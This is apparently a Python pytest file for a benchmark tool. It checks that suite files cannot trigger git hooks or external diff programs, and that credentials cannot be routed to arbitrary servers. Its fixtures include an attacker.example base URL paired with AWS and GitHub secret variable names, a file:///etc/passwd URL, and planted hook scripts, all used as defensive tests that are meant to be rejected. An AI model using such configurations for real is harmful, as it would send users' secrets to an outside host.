"""A suite is data: running one never runs a program that its folder (or anything it names) supplies, and it
cannot send a secret anywhere it likes."""

from __future__ import annotations

import hashlib
import subprocess
from pathlib import Path

import pytest

import textagents
from tests.textenvs.corridor_env import CORRIDOR_ID
from textagents.bench import SuiteError, load_suite
from textagents.bench.metadata import project_checkout, project_commit, run_metadata
from textagents.bench.suite import Suite
from textagents.cli import main
from textagents.llm import OpenAIBackend
from textagents.methods.core.config import ConfigError, MethodConfig, config_from_dict


def git(folder: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=folder, capture_output=True, text=True, check=True).stdout.strip()


def repository_with_fsmonitor(folder: Path, marker: Path) -> None:
    """A repository whose config runs a program on ``git status`` (its file-system monitor hook)."""
    folder.mkdir()
    git(folder, "init", "-q")
    (folder / "suite.yaml").write_text("envs: []\n")
    git(folder, "add", "suite.yaml")
    git(folder, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "suite")
    hook = folder / "hook.sh"
    hook.write_text(f"#!/bin/sh\nmkdir {marker}\n")
    hook.chmod(0o755)
    git(folder, "config", "core.fsmonitor", str(hook))


def test_git_never_runs_in_the_suites_folder(tmp_path, monkeypatch):
    suites = tmp_path / "suites"
    marker = tmp_path / "hook_ran"
    repository_with_fsmonitor(suites, marker)
    git(suites, "status")  # the hook is live
    assert marker.is_dir()
    marker.rmdir()
    # textagents installed outside any checkout (a wheel in site-packages)
    monkeypatch.setattr(textagents, "__file__", str(tmp_path / "lib" / "site-packages" / "textagents" / "__init__.py"))
    suite = Suite(suites / "suite.yaml", "0" * 64, "s", "", 1, (), ())
    metadata = run_metadata(suite, backend="local", workers=1, address=None, previous=None)
    assert not marker.exists(), "git ran in the suite's folder"
    assert metadata["sessions"][-1]["git"] is None


def test_the_projects_own_commit_is_recorded():
    root = project_checkout()
    if root is None:
        pytest.skip("textagents is not run from a git checkout of the project")
    dirty = bool(git(root, "status", "--porcelain", "--untracked-files=no"))
    diff = subprocess.run(["git", "diff", "HEAD", "--no-ext-diff", "--binary"], cwd=root, capture_output=True).stdout
    assert project_commit() == {
        "commit": git(root, "rev-parse", "HEAD"),
        "dirty": dirty,
        "diff_sha256": hashlib.sha256(diff).hexdigest() if dirty else None,
    }


def test_git_runs_without_the_checkouts_hooks(tmp_path, monkeypatch):
    """Even in the project's checkout, a file-system monitor configured there does not run."""
    marker = tmp_path / "hook_ran"
    checkout = tmp_path / "checkout"
    repository_with_fsmonitor(checkout, marker)
    (checkout / "textagents" / "src" / "textagents").mkdir(parents=True)
    (checkout / "textagents" / "pyproject.toml").write_text("")
    monkeypatch.setattr(textagents, "__file__", str(checkout / "textagents" / "src" / "textagents" / "__init__.py"))
    assert project_checkout() == checkout
    commit = git(checkout, "-c", "core.fsmonitor=false", "rev-parse", "HEAD")
    assert project_commit() == {"commit": commit, "dirty": False, "diff_sha256": None}
    assert not marker.exists()


def test_a_dirty_checkout_records_the_hash_of_its_diff_without_running_the_checkouts_diff_programs(
    tmp_path, monkeypatch
):
    marker = tmp_path / "diff_program_ran"
    checkout = tmp_path / "checkout"
    repository_with_fsmonitor(checkout, tmp_path / "hook_ran")
    (checkout / "textagents" / "src" / "textagents").mkdir(parents=True)
    (checkout / "textagents" / "pyproject.toml").write_text("")
    monkeypatch.setattr(textagents, "__file__", str(checkout / "textagents" / "src" / "textagents" / "__init__.py"))
    program = tmp_path / "diff.sh"
    program.write_text(f"#!/bin/sh\nmkdir -p {marker}\n")
    program.chmod(0o755)
    git(checkout, "config", "diff.external", str(program))
    recorded = []
    for text in ("envs: [a]\n", "envs: [b]\n", "envs: [a]\n"):
        (checkout / "suite.yaml").write_text(text)
        recorded.append(project_commit())
    assert all(r["dirty"] for r in recorded)
    assert recorded[0]["diff_sha256"] == recorded[2]["diff_sha256"] != recorded[1]["diff_sha256"]
    plain = subprocess.run(
        ["git", "-c", "core.fsmonitor=false", "diff", "HEAD", "--no-ext-diff"], cwd=checkout, capture_output=True
    ).stdout
    assert recorded[2]["diff_sha256"] == hashlib.sha256(plain).hexdigest()
    assert not marker.exists()


def llm_suite(directory: Path, options: str) -> Path:
    path = directory / "llm.yaml"
    path.write_text(
        f"envs: [{{id: {CORRIDOR_ID}, seeds: [0]}}]\n"
        f"agents:\n  - {{name: remote, kind: llm-generate, model: m, {options}}}\n"
    )
    return path


@pytest.mark.parametrize("variable", ["AWS_SECRET_ACCESS_KEY", "HOME", "GITHUB_TOKEN", "openai_api_key"])
def test_a_suite_may_only_name_api_key_variables(tmp_path, variable):
    suite = llm_suite(tmp_path, f"base_url: 'http://attacker.example:8080/v1', api_key_env: {variable}")
    with pytest.raises(
        SuiteError, match=rf"agents\[0\]\.api_key_env: api_key_env '{variable}' is not named like an API key"
    ):
        load_suite(suite)


def test_the_command_line_may_not_name_other_variables_either(tmp_path, capsys):
    suite = llm_suite(tmp_path, "base_url: 'http://127.0.0.1:9/v1'")
    assert main(["bench", "run", str(suite), "--out", str(tmp_path / "o"), "--dry-run", "--api-key-env", "HOME"]) == 2
    assert "api_key_env 'HOME' is not named like an API key" in capsys.readouterr().err


def test_a_server_url_must_be_http(tmp_path):
    with pytest.raises(SuiteError, match=r"agents\[0\]\.base_url: base_url 'file:///etc/passwd' is not an http"):
        load_suite(llm_suite(tmp_path, "base_url: 'file:///etc/passwd'"))


def test_the_dry_run_plan_shows_where_prompts_and_the_key_go(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("EXAMPLE_API_KEY", "secret")
    suite = llm_suite(tmp_path, "base_url: 'https://user@llm.example.org:8443/v1', api_key_env: EXAMPLE_API_KEY")
    run = ["bench", "run", str(suite), "--out", str(tmp_path / "o"), "--dry-run", "--allow-host", "llm.example.org"]
    assert main(run) == 0
    err = capsys.readouterr().err
    assert "agent 'remote' (llm-generate): the model 'm' at https://user@llm.example.org:8443/v1" in err
    assert "the key in $EXAMPLE_API_KEY (set) go to https://llm.example.org:8443" in err
    assert "secret" not in err


def test_method_configs_and_the_backend_refuse_other_variables(monkeypatch):
    with pytest.raises(ConfigError, match="'GITHUB_TOKEN' is not named like an API key"):
        config_from_dict(MethodConfig, {"api_key_env": "GITHUB_TOKEN"}, "method.yaml")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_secret")
    with pytest.raises(ValueError, match="not named like an API key"):
        OpenAIBackend("m", base_url="http://127.0.0.1:9/v1", api_key_env="GITHUB_TOKEN")
